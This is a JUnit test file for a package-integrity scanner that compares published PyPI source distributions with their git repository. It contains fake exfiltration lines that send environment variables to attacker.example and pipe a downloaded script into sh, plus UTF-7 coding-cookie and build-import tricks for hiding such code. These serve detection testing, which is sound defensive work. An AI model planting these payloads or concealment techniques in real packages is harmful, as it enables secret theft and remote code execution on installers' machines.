package dev.divergence.registry.pypi;

import static dev.divergence.fixtures.Trees.wheelFiles;
import static dev.divergence.fixtures.ScanWorld.artifact;
import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.flatProject;
import static dev.divergence.fixtures.Trees.with;
import static dev.divergence.fixtures.Trees.without;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.compare.Normalizations;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.RiskFlag;
import java.nio.charset.Charset;
import java.nio.file.Path;
import java.util.Base64;
import java.util.SortedMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Red team round 8 on the Python side: the modules building an sdist imports run at install (c2: setup.py's
 * {@code import versioneer}; c3: setuptools' cmdclass and attr), and a PEP 263 declaration decides what Python reads
 * (c5: a keyword expansion carrying {@code coding:utf-7}; c6: a module gaining a UTF-7 payload). Each test publishes
 * the hostile release and a benign one against a JGit repository.
 */
class PypiBuildImportsTest {

    @TempDir
    Path dir;

    private static final String POST = "import os, urllib.request\n"
            + "urllib.request.urlopen('https://attacker.example/c', data=repr(dict(os.environ)).encode())\n";
    private static final String PAYLOAD = "__import__('os').system('curl -s https://attacker.example/p | sh')";

    private static String utf7Run(String text) {
        return "+" + Base64.getEncoder().encodeToString(text.getBytes(Charset.forName("UTF-16BE"))).replace("=", "") + "-";
    }

    private ScanWorld world(String sub, SortedMap<String, byte[]> tree) throws Exception {
        ScanWorld w = new ScanWorld(dir.resolve(sub), "demo");
        w.commit(tree, "1.0.0");
        w.tag("v1.0.0");
        return w;
    }


    private static String append(SortedMap<String, byte[]> tree, String path, String more) {
        return new String(tree.get(path), java.nio.charset.StandardCharsets.UTF_8) + more;
    }

    private static void assertRuns(ArtifactReport sdist, String path, boolean highRisk) {
        FileDivergence f = row(sdist, "demo-1.0.0/" + path);
        assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), path + " " + f);
        assertEquals(highRisk, f.highRisk(), path + " " + f);
    }

    @Test
    void theModulesSetupPyImportsRunAtInstall() throws Exception {
        SortedMap<String, byte[]> tree = with(without(flatProject("1.0.0"), "pyproject.toml"),
                "setup.py", "import os, sys\nfrom setuptools import setup\n\n"
                        + "sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n"
                        + "import versioneer  # noqa: E402\nfrom buildtools.helpers import long_description\n"
                        + "setup(name='demo', version=versioneer.get_version(), long_description=long_description())\n",
                "versioneer.py", "def get_version():\n    return '1.0.0'\n",
                "buildtools/__init__.py", "",
                "buildtools/helpers.py", "from . import _impl\n\ndef long_description():\n    return _impl.read()\n",
                "buildtools/_impl.py", "def read():\n    return open('README.md').read()\n",
                "buildtools/unused.py", "X = 1\n");
        try (ScanWorld w = world("c2", tree)) {
            w.publish("1.0.0", with(tree, "versioneer.py", append(tree, "versioneer.py", POST),
                    "buildtools/_impl.py", append(tree, "buildtools/_impl.py", "X = 2\n"),
                    "buildtools/unused.py", "X = 2\n", "demo/core.py", append(tree, "demo/core.py", "Y = 1\n"),
                    "setuptools.py", "def setup(**kwargs):\n    pass\n"),
                    wheelFiles(tree));
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            FileDivergence v = row(sdist, "demo-1.0.0/versioneer.py");
            assertEquals(FileStatus.MODIFIED, v.status());
            assertRuns(sdist, "versioneer.py", true);
            // what the imported module imports in turn (relatively) runs too, even with harmless added lines
            assertRuns(sdist, "buildtools/_impl.py", true);
            // a standard or build-system name counts when the sdist ships it there: it shadows the real one
            FileDivergence shadow = row(sdist, "demo-1.0.0/setuptools.py");
            assertEquals(FileStatus.PHANTOM, shadow.status());
            assertRuns(sdist, "setuptools.py", true);
            // an imported module left as committed is still a match
            FileDivergence helpers = row(sdist, "demo-1.0.0/buildtools/helpers.py");
            assertEquals(FileStatus.MATCH, helpers.status());
            assertFalse(helpers.highRisk());
            // a module no one imports at build time, or the package's own code, is judged by its added lines
            for (String p : new String[] {"buildtools/unused.py", "demo/core.py"}) {
                FileDivergence f = row(sdist, "demo-1.0.0/" + p);
                assertFalse(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p + " " + f);
                assertFalse(f.highRisk(), p);
            }
        }
    }

    @Test
    void theModulesSetuptoolsImportsForCmdclassAndAttrRunAtInstall() throws Exception {
        // pyproject.toml only, src layout declared with package-dir
        String pyproject = "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n"
                + "[project]\nname = \"demo\"\ndynamic = [\"version\"]\n\n[tool.setuptools]\npy-modules = [\"_custom_build\"]\n\n"
                + "[tool.setuptools.package-dir]\n\"\" = \"src\"\n\n"
                + "[tool.setuptools.cmdclass]\nbuild_py = \"_custom_build.BuildPy\"\n\n"
                + "[tool.setuptools.dynamic]\nversion = {attr = \"demo.__version__\"}\n";
        SortedMap<String, byte[]> tree = with(new java.util.TreeMap<>(), "pyproject.toml", pyproject,
                "_custom_build.py", "from setuptools.command.build_py import build_py\n\nclass BuildPy(build_py):\n    pass\n",
                "src/demo/__init__.py", "__version__ = '1.0.0'\n", "src/demo/core.py", "X = 1\n");
        try (ScanWorld w = world("c3", tree)) {
            w.publish("1.0.0", with(tree, "_custom_build.py", append(tree, "_custom_build.py", POST),
                    "src/demo/__init__.py", "import os\n__version__ = os.environ.get('V', '1.0.0')\n",
                    "src/demo/core.py", "X = 2\n"), new java.util.TreeMap<>());
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRuns(sdist, "_custom_build.py", true);
            assertRuns(sdist, "src/demo/__init__.py", true);
            assertFalse(row(sdist, "demo-1.0.0/src/demo/core.py").riskFlags().contains(RiskFlag.AUTO_EXEC));
        }
        // setup.cfg's forms: "version = attr: ..." and a cmdclass mapping, package_dir "=src"
        String cfg = "[metadata]\nname = demo\nversion = attr: demo.__version__\n\n[options]\npackage_dir =\n    =src\n"
                + "packages = find:\ncmdclass =\n    build_py = tools.build.BuildPy\n";
        SortedMap<String, byte[]> cfgTree = with(new java.util.TreeMap<>(), "setup.cfg", cfg,
                "pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n",
                "tools/__init__.py", "", "tools/build.py", "class BuildPy:\n    pass\n",
                "src/demo/__init__.py", "__version__ = '1.0.0'\n");
        try (ScanWorld w = world("c3cfg", cfgTree)) {
            w.publish("1.0.0", with(cfgTree, "tools/build.py", append(cfgTree, "tools/build.py", POST),
                    "src/demo/__init__.py", "__version__ = '1.0.0'\nimport demo._hook\n"), new java.util.TreeMap<>());
            ArtifactReport sdist = artifact(w.scan("1.0.0"), ".tar.gz");
            assertRuns(sdist, "tools/build.py", true);
            assertRuns(sdist, "src/demo/__init__.py", true);
            FileDivergence pkg = row(sdist, "demo-1.0.0/tools/__init__.py");
            assertEquals(FileStatus.MATCH, pkg.status());
            assertFalse(pkg.highRisk());
        }
    }

    @Test
    void aKeywordExpansionCarryingACodingCookieDoesNotExplainSetupPy() throws Exception {
        String setup = "# $HeadURL$\n# $Id$\nfrom setuptools import setup\n\nsetup(name='demo', version='1.0.0')\n";
        SortedMap<String, byte[]> tree = with(without(flatProject("1.0.0"), "pyproject.toml"), "setup.py", setup);
        String attack = setup.replace("# $HeadURL$", "# $HeadURL: https://svn.acme.example/repos/coding:utf-7/"
                + utf7Run("\n" + PAYLOAD + "\n#") + "/trunk/setup.py $");
        try (ScanWorld w = world("c5", tree)) {
            w.publish("1.0.0", with(tree, "setup.py", attack), wheelFiles(tree));
            FileDivergence f = row(artifact(w.scan("1.0.0"), ".tar.gz"), "demo-1.0.0/setup.py");
            assertEquals(FileStatus.MODIFIED, f.status(), f.toString());
            assertTrue(f.highRisk());
            assertTrue(f.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), "the decoded payload is scanned: " + f);
        }
        String benign = setup.replace("# $HeadURL$", "# $HeadURL: https://svn.example/trunk/setup.py $")
                .replace("# $Id$", "# $Id: setup.py 1234 2009-03-02 10:11:12Z jdoe $");
        try (ScanWorld w = world("c5ctl", tree)) {
            w.publish("1.0.0", with(tree, "setup.py", benign), wheelFiles(tree));
            FileDivergence f = row(artifact(w.scan("1.0.0"), ".tar.gz"), "demo-1.0.0/setup.py");
            assertEquals(FileStatus.MATCH_NORMALIZED, f.status(), f.toString());
            assertEquals(Normalizations.VCS_KEYWORDS, f.ruleId());
            assertFalse(f.highRisk());
        }
    }

    @Test
    void aModuleGainingAHidingCodecIsObfuscatedAndItsPayloadIsRead() throws Exception {
        SortedMap<String, byte[]> tree = flatProject("1.0.0");
        String core = new String(tree.get("demo/core.py"), java.nio.charset.StandardCharsets.UTF_8);
        try (ScanWorld w = world("c6", tree)) {
            w.publish("1.0.0", with(tree, "demo/core.py", "# -*- coding: utf-7 -*-\n" + core + "\n" + utf7Run(PAYLOAD) + "\n"),
                    wheelFiles(tree));
            FileDivergence f = row(artifact(w.scan("1.0.0"), ".tar.gz"), "demo-1.0.0/demo/core.py");
            assertEquals(FileStatus.MODIFIED, f.status());
            assertTrue(f.riskFlags().contains(RiskFlag.OBFUSCATED), f.toString());
            assertTrue(f.riskFlags().contains(RiskFlag.DYNAMIC_EXEC), f.toString());
            assertTrue(f.highRisk());
        }
        // the same change made with a UTF-8 (or Latin-1) declaration and a harmless line: no obfuscation
        try (ScanWorld w = world("c6ctl", tree)) {
            w.publish("1.0.0", with(tree, "demo/core.py", "# -*- coding: latin-1 -*-\n" + core + "\nX = 1\n"),
                    wheelFiles(tree));
            FileDivergence f = row(artifact(w.scan("1.0.0"), ".tar.gz"), "demo-1.0.0/demo/core.py");
            assertEquals(FileStatus.MODIFIED, f.status());
            assertFalse(f.riskFlags().contains(RiskFlag.OBFUSCATED), f.toString());
            assertFalse(f.highRisk());
        }
    }
}
